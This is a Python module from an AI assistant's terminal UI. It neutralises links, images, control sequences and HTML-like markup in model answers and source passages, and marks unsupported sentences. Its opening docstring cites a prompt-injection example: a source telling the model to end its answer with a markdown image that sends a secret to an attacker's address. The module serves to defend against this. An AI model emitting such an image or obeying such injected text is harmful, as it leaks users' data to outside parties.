"""Untrusted text made safe and readable on screen: answers, file names, source passages.

Model text and document text may carry terminal control sequences, bidi overrides, markdown
images that a renderer could fetch, and links whose label hides where they go (a source can
tell the model to end its answer with `![status](https://attacker/?q=secret)`). Everything
shown in the TUI passes through here first: no link or image in an answer is ever rendered
as one; the person sees each address in full, as text, and copies it if they want it.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from pathlib import Path

from textual.content import Content

from assistant import terminal
from assistant.ask.types import SentenceSupport
from assistant.guardrails.sentences import code_spans
from assistant.guardrails.support import mark
from assistant.terminal import sanitize

# One pass over the answer: code spans are kept as they are; images, links, reference
# definitions (`[1]: https://...`), autolinks (`<https://...>`) and bare addresses (which the
# renderer would otherwise turn into links) become text; citation markers `[n]` become code.
_MARKUP = re.compile(
    r"(?P<code>(`+)(?:.|\n)*?(?<!`)\2(?!`))"
    r"|!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<src>[^)\s>]*)>?[^)\n]*\)"
    r"|(?<![!\\])\[(?P<label>[^\]\n]+)\]\(\s*<?(?P<href>[^)\s>]*)>?[^)\n]*\)"
    r"|^(?P<refname>[ ]{0,3}\[[^\]\n]+\]:)[ \t]*<?(?P<ref>[^\s>]+)>?"
    r"|<(?P<auto>(?:[a-z][a-z0-9+.-]{1,31}:|www\.)[^\s<>]*)>"
    r"|(?<![\w`])(?P<bare>(?:https?|ftp|file|data|mailto):[^\s`<>]+|www\.[^\s`<>]+)"
    r"|(?<![`\\])\[(?P<cite>\d{1,3})\](?![(\[:`])",
    re.IGNORECASE | re.MULTILINE,
)
_TRAILING = ".,;:!?)'\""
_TILDE = re.compile(r"~")
_ANGLE = re.compile(r"(?<!\\)<")
_LEADING_MARKUP = re.compile(r"^(?:[ \t]*(?:[-*+>]|\d{1,3}[.)]|#{1,6})[ \t]+)*")
_WORD = re.compile(r"\w+")
_SENTENCE = re.compile(r"[^.!?\n]+[.!?]*")
_STOPWORD_TEXT = """
about above after also and any are because been before being but can could did does
doing down during each few for from had has have having her here hers him his how its
into just more most not now off once only other our out over own same she should some
such than that the their them then there these they this those through too under
until very was were what when where which while who whom why will with would you your
"""
_STOPWORDS = frozenset(_STOPWORD_TEXT.split())

PASSAGE_STYLE = "on $accent 25%"
TERM_STYLE = "bold $text-accent"


def display_path(path: str) -> str:
    """A file name as a person reads it: control and invisible characters escaped (see
    `assistant.terminal.display_path`), and `~` for the home folder."""
    clean = terminal.display_path(path)
    home = str(Path.home())
    if clean == home or clean.startswith(home.rstrip("/") + "/"):
        return "~" + clean[len(home.rstrip("/")) :]
    return clean


def answer_markdown(text: str, sentences: Sequence[SentenceSupport] = ()) -> str:
    """Model text as markdown to render, with no link or image left in it.

    Control sequences are stripped; an image becomes a text note and a link its label, each
    followed by the address in full as code (which no renderer fetches or makes clickable);
    autolinks, bare addresses and reference definitions are shown as code too. Citation
    markers `[n]` stand out. With `sentences` (the answer's support check), each sentence no
    source supports is struck through (`.s`, styled dim in chat.tcss) and flagged `[?]`, and
    each sentence margin matched to a source the model did not cite gets `[n]?`. Nothing is
    changed or added inside code: a mark after a code block goes on a line of its own.
    Angle brackets outside code are escaped, so `<commit>` or `<file>` in a manual page shows
    as written instead of being taken for an HTML tag and dropped.
    """
    shown = _MARKUP.sub(_as_text, sanitize(_with_support(text, sentences)))
    return _outside_code(shown, _escape_angle_brackets)


def _with_support(text: str, sentences: Sequence[SentenceSupport]) -> str:
    """`text` with tildes outside code escaped (so only margin strikes through), unsupported
    sentences struck through and margin's marks after the sentences they belong to."""
    pieces: list[str] = []
    position = 0
    for sentence in sorted(sentences, key=lambda s: s.start):
        if sentence.start < position or sentence.end > len(text):
            continue  # spans from another text; never guess
        pieces.append(_outside_code(text[position : sentence.start], _escape_tildes))
        body = _outside_code(text[sentence.start : sentence.end], _escape_tildes)
        shown = mark(sentence)
        if sentence.status == "unsupported" and sentence.kind == "prose":
            lead = _LEADING_MARKUP.match(body)
            cut = lead.end() if lead else 0
            body = f"{body[:cut]}~~{body[cut:]}~~"
        if shown:
            body += f"\n\n`{shown}`\n" if sentence.kind == "code" else f" `{shown}`"
        pieces.append(body)
        position = sentence.end
    pieces.append(_outside_code(text[position:], _escape_tildes))
    return "".join(pieces)


def _escape_tildes(prose: str) -> str:
    return _TILDE.sub(r"\~", prose)


def _escape_angle_brackets(prose: str) -> str:
    """`<` as a literal character: the renderer would otherwise read `<name>` as HTML."""
    return _ANGLE.sub(r"\<", prose)


def _outside_code(text: str, rewrite: Callable[[str], str]) -> str:
    """`text` with `rewrite` applied to the stretches between code spans and links."""
    pieces: list[str] = []
    position = 0
    for start, end in [*code_spans(text), (len(text), len(text))]:
        pieces.append(rewrite(text[position:start]))
        pieces.append(text[start:end])
        position = end
    return "".join(pieces)


def _as_text(match: re.Match[str]) -> str:
    found = match.groupdict()
    if found["code"] is not None:
        return match.group()
    if found["src"] is not None:
        return f"(image: {found['alt'] or 'no description'} — {_as_code(found['src'])})"
    if found["label"] is not None:
        label, target = found["label"], found["href"]
        if not target or label.strip() == target:
            return _as_code(target) if target else label
        return f"{label} ({_as_code(target)})"
    if found["ref"] is not None:
        return f"{found['refname']} {_as_code(found['ref'])}"
    if found["auto"] is not None:
        return _as_code(found["auto"])
    if found["cite"] is not None:
        return f"`[{found['cite']}]`"
    address = found["bare"]
    kept = address.rstrip(_TRAILING)
    return _as_code(kept) + address[len(kept) :]


def _as_code(address: str) -> str:
    """An address as an inline code span; a backtick in it (never valid in a URL) is
    percent-encoded so the span cannot be closed early."""
    return f"`{address.replace('`', '%60')}`"


def query_terms(query: str) -> set[str]:
    """The words of a question worth looking for in a passage."""
    return {
        word
        for word in (w.lower() for w in _WORD.findall(query))
        if len(word) > 2 and word not in _STOPWORDS
    }


def matched_passage(text: str, query: str) -> tuple[int, int] | None:
    """The span of the sentence that shares most words with the query, if any does."""
    terms = query_terms(query)
    best: tuple[int, int] | None = None
    best_score = 0
    for sentence in _SENTENCE.finditer(text):
        words = {w.lower() for w in _WORD.findall(sentence.group())}
        score = len(words & terms)
        if score > best_score:
            best, best_score = (sentence.start(), sentence.end()), score
    return best


def highlighted_passage(text: str, query: str) -> Content:
    """A source chunk with its best-matching sentence and the question's words highlighted."""
    clean = sanitize(text)
    content = Content(clean)
    span = matched_passage(clean, query)
    if span is not None:
        content = content.stylize(PASSAGE_STYLE, *span)
    terms = query_terms(query)
    if terms:
        pattern = re.compile(
            r"\b(" + "|".join(re.escape(t) for t in sorted(terms)) + r")\b", re.IGNORECASE
        )
        content = content.highlight_regex(pattern, style=TERM_STYLE)
    return content
